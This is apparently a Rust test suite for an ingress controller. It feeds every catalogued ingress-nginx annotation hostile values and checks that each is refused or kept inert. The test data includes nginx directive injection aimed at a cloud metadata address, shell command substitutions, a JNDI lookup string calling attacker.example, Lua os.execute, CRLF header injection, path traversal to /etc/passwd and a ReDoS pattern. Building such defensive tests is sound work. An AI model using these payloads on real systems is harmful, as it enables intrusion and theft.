//! The annotation injection suite: every ingress-nginx annotation Vestibule catalogues, under
//! both prefixes, given values that carry nginx directives, newlines, braces, Lua, `$`
//! variables, shell and template syntax, control characters, and huge sizes. Each one must be
//! refused (an issue naming the Ingress and the annotation) or taken as data; no issue message
//! (what the log, `/api/status` and `vestibule check` print) may carry a raw control character,
//! so no value can forge a log line; snippets and Lua are never served; translating never
//! panics. The headers that values can reach on the wire are checked end to end in
//! `tests/e2e/injection.rs`.

use std::path::PathBuf;

use vestibule::config::parse::parse_documents;
use vestibule::config::{Origin, Snapshot};
use vestibule::translate::annotations::{CATALOGUE, Support};
use vestibule::translate::{TranslateOptions, translate};

/// Hostile values: what a user (or an attacker with Ingress write access) might put there.
fn hostile_values() -> Vec<String> {
    let mut values: Vec<String> = [
        "deny all;",
        "on; } server { listen 8080; location / { proxy_pass http://169.254.169.254; } } #",
        "$(id)",
        "`id`",
        "${jndi:ldap://attacker.example/a}",
        "$host$request_uri",
        "$http_authorization",
        "content_by_lua_block { os.execute('id') }",
        "'; ngx.exec('/admin'); --",
        "true\ndeny all;",
        "1\r\nX-Injected: yes",
        "https://a.example\r\n\r\nHTTP/1.1 200 OK",
        "a\u{0}b",
        "\u{1b}[31mred\u{1b}[0m",
        "\u{7f}\u{85}\u{2028}",
        "{{ .Values.secret }}",
        "../../../../etc/passwd",
        "%0d%0aX-Injected:%20yes",
        "\"quoted\" 'single'",
        "",
        " ",
        "🙂",
        "*",
        "/",
        "-1",
        "99999999999999999999999",
        "0x10",
        "1e9",
    ]
    .iter()
    .map(ToString::to_string)
    .collect();
    values.push("x".repeat(64 * 1024));
    values.push("(a+)+$".repeat(1_000));
    values
}

/// An Ingress carrying one annotation, with a Service for its backend, as JSON (JSON is YAML:
/// every value reaches the parser exactly, control characters included).
fn manifest(key: &str, value: &str) -> String {
    let ingress = serde_json::json!({
        "apiVersion": "networking.k8s.io/v1",
        "kind": "Ingress",
        "metadata": {"name": "target", "namespace": "default", "annotations": {key: value}},
        "spec": {
            "ingressClassName": "nginx",
            "tls": [{"hosts": ["app.example"], "secretName": "app-tls"}],
            "rules": [{"host": "app.example", "http": {"paths": [
                {"path": "/", "pathType": "Prefix", "backend": {"service": {"name": "web", "port": {"number": 80}}}}
            ]}}],
        },
    });
    let others = r#"
---
apiVersion: networking.k8s.io/v1
kind: IngressClass
metadata: {name: nginx}
spec: {controller: vestibule.dev/ingress-controller}
---
apiVersion: v1
kind: Service
metadata: {name: web, namespace: default}
spec: {ports: [{name: http, port: 80}]}
"#;
    // YAML allows no raw DEL, C1 or line-separator characters even inside quotes: escaped
    // (only strings hold them), they reach the annotation as the API would pass them.
    let mut text = String::new();
    for c in ingress.to_string().chars() {
        if c.is_control() || c == '\u{2028}' || c == '\u{2029}' {
            text.push_str(&format!("\\u{:04x}", u32::from(c)));
        } else {
            text.push(c);
        }
    }
    format!("{text}\n{others}")
}

fn has_control(text: &str) -> bool {
    text.chars()
        .any(|c| c.is_control() || c == '\u{2028}' || c == '\u{2029}')
}

#[test]
fn every_annotation_refuses_or_contains_hostile_values() {
    let values = hostile_values();
    let mut checked = 0;
    for entry in CATALOGUE {
        for prefix in ["nginx.ingress.kubernetes.io/", "ingress.kubernetes.io/"] {
            let key = format!("{prefix}{}", entry.name);
            for value in &values {
                let parsed = parse_documents(&manifest(&key, value), |document| Origin::File {
                    path: PathBuf::from("hostile.yaml"),
                    document,
                });
                assert!(
                    parsed.issues.is_empty(),
                    "{key}: the manifest itself must parse: {:?}",
                    parsed.issues
                );
                let translation = translate(
                    &Snapshot::from_objects(parsed.objects, parsed.issues),
                    &TranslateOptions::default(),
                );
                for issue in &translation.issues {
                    let line = issue.to_string();
                    assert!(
                        !has_control(&line),
                        "{key}={:?}: an issue carries a raw control character (it could forge a log line): {line:?}",
                        shorten(value)
                    );
                }
                // Raw nginx configuration and Lua are never served, whatever the value.
                if matches!(entry.support, Support::Refused) {
                    let verdict = translation
                        .ingresses
                        .iter()
                        .find(|verdict| verdict.name == "target")
                        .unwrap_or_else(|| panic!("{key}: no verdict for the Ingress"));
                    assert!(!verdict.served, "{key}={:?} was served", shorten(value));
                }
                checked += 1;
            }
        }
    }
    assert!(checked > 5_000, "{checked} cases");
}

/// The route table a hostile annotation builds is described (what `/api/routes` shows)
/// without a raw control character reaching any string meant for headers or logs.
#[test]
fn described_routes_carry_no_raw_control_characters() {
    for entry in CATALOGUE {
        let key = format!("nginx.ingress.kubernetes.io/{}", entry.name);
        for value in ["1\r\nX-Injected: yes", "a\u{0}b", "\u{1b}[31m"] {
            let parsed = parse_documents(&manifest(&key, value), |document| Origin::File {
                path: PathBuf::from("hostile.yaml"),
                document,
            });
            let translation = translate(
                &Snapshot::from_objects(parsed.objects, parsed.issues),
                &TranslateOptions::default(),
            );
            let described = translation.table.describe();
            let mut strings = Vec::new();
            collect_strings(&described, &mut strings);
            for text in strings {
                assert!(!has_control(&text), "{key}={value:?}: /api/routes would show {text:?}");
            }
        }
    }
}

fn collect_strings(value: &serde_json::Value, out: &mut Vec<String>) {
    match value {
        serde_json::Value::String(text) => out.push(text.clone()),
        serde_json::Value::Array(items) => items.iter().for_each(|item| collect_strings(item, out)),
        serde_json::Value::Object(map) => map.values().for_each(|item| collect_strings(item, out)),
        _ => {}
    }
}

fn shorten(value: &str) -> String {
    value.chars().take(60).collect()
}

/// The redirect and header annotations: whatever hostile value they carry, either the Ingress
/// is not served (an error names the annotation) or what reaches the wire — the redirect's
/// `Location` for a plain request, the backend's `Host` and `X-Forwarded-Prefix`, alias names —
/// holds no control character and no space.
#[test]
fn redirect_and_header_values_are_refused_or_inert() {
    let mut served = 0;
    for name in [
        "permanent-redirect",
        "temporal-redirect",
        "permanent-redirect-code",
        "upstream-vhost",
        "x-forwarded-prefix",
        "server-alias",
        "from-to-www-redirect",
        "custom-headers",
    ] {
        let key = format!("nginx.ingress.kubernetes.io/{name}");
        for value in hostile_values() {
            let parsed = parse_documents(&manifest(&key, &value), |document| Origin::File {
                path: PathBuf::from("hostile.yaml"),
                document,
            });
            let translation = translate(
                &Snapshot::from_objects(parsed.objects, parsed.issues),
                &TranslateOptions::default(),
            );
            for route in translation.table.routes.iter() {
                served += 1;
                if let Some(redirect) = &route.redirect {
                    let (_, location) = redirect.answer("http", "app.example", "/a?b=c");
                    assert!(
                        !has_control(&location) && !location.contains(' '),
                        "{key}={:?}: Location {location:?}",
                        shorten(&value)
                    );
                }
                if let Some(headers) = &route.headers {
                    for header in [&headers.upstream_host, &headers.forwarded_prefix]
                        .into_iter()
                        .flatten()
                    {
                        let text = String::from_utf8_lossy(header.as_bytes());
                        assert!(
                            !has_control(&text) && !text.contains(' '),
                            "{key}={:?}: header {text:?}",
                            shorten(&value)
                        );
                    }
                }
            }
            for host in translation.table.http.exact.keys() {
                assert!(
                    host.bytes()
                        .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-'),
                    "{key}={:?}: host {host:?}",
                    shorten(&value)
                );
            }
        }
    }
    assert!(served > 0, "no hostile value was served at all: the check saw nothing");
}
